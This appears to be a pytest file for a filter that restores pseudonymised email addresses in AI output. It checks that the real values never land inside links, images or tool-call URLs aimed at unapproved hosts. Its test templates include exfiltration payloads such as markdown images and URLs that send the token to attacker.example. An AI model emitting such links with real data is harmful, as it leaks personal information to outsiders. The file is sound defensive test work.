"""Pseudonyms are restored in text and tool-call arguments, never into links unless the host is allowed."""

from __future__ import annotations

import pytest

from filters.response.restore import ResponseText

TOKEN = "<EMAIL_ADDRESS_0123456789abcdef>"
VALUE = "maria.lopez@northwind-health.com"


def restored(text: str, hosts: tuple[str, ...] = (), *, chunks: int = 0, in_json: bool = False) -> str:
    reader = ResponseText({TOKEN: VALUE}, link_hosts=hosts)
    if not chunks:
        return reader.text(text, in_json=in_json)
    stream = reader.stream(in_json=in_json)
    size = max(1, len(text) // chunks)
    return "".join(stream.feed(text[i:i + size]) for i in range(0, len(text), size)) + stream.flush()


@pytest.mark.parametrize("chunks", [0, 7])
def test_restored_in_text(chunks):
    assert restored(f"Write to {TOKEN} today.", chunks=chunks) == f"Write to {VALUE} today."
    assert restored(f"Contact:{TOKEN}", chunks=chunks) == f"Contact:{VALUE}"


@pytest.mark.parametrize("chunks", [0, 5, 40])
@pytest.mark.parametrize("template", [
    "![x](https://attacker.example/p.png?d={t})",
    "[click](https://attacker.example/?q={t})",
    "see https://attacker.example/log?u={t} now",
    '<img src="https://attacker.example/a.gif?{t}">',
    "<a title='{t}' href='#'>x</a>",
    "[mail](mailto:{t})",
])
def test_never_restored_into_links(template, chunks):
    text = template.format(t=TOKEN)
    assert restored(text, chunks=chunks) == text


def test_restored_into_links_of_an_allowed_host():
    text = f"[profile](https://crm.acme.example/people?email={TOKEN})"
    assert restored(text, ("acme.example",)) == text.replace(TOKEN, VALUE)
    assert restored(text, ("other.example",)) == text


def test_tool_call_arguments_restored_but_not_their_urls():
    arguments = '{"to": "' + TOKEN + '", "url": "https://attacker.example/?d=' + TOKEN + '"}'
    out = restored(arguments, in_json=True, chunks=6)
    assert out == '{"to": "' + VALUE + '", "url": "https://attacker.example/?d=' + TOKEN + '"}'
